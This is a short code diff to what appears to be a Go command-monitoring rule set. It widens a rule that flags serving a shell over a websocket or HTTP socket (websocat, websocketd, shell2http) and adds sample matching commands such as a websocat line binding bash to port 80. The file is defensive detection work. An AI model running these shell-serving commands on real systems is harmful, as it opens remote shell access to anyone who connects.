@@ -156,7 +156,7 @@ var monitoring = []rules.Rule{
 		Misses: []string{"ttyd --version", "man ttyd"},
 	},
 	{
-		ID: "net.serve-shell-socket", Former: "net.served-shell-socket", Class: rules.RemoteCode, Program: "websocat", Operand: "*sh-c:* *cmd:* *exec:*",
+		ID: "net.serve-shell-socket", Former: "net.served-shell-socket", Class: rules.RemoteCode, Program: "websocat websocketd shell2http", Operand: "*sh-c:* *cmd:* *exec:* sh bash zsh dash ash ksh fish /bin/*sh /usr/bin/*sh",
 		Reason: "gives a shell to whoever is at the other end",
 		Hint:   "connect it to a file or a port",
 		Hits:   []string{"websocat -E ws-l:0.0.0.0:80 sh-c:bash", "websocat ws://h/x cmd:sh"},
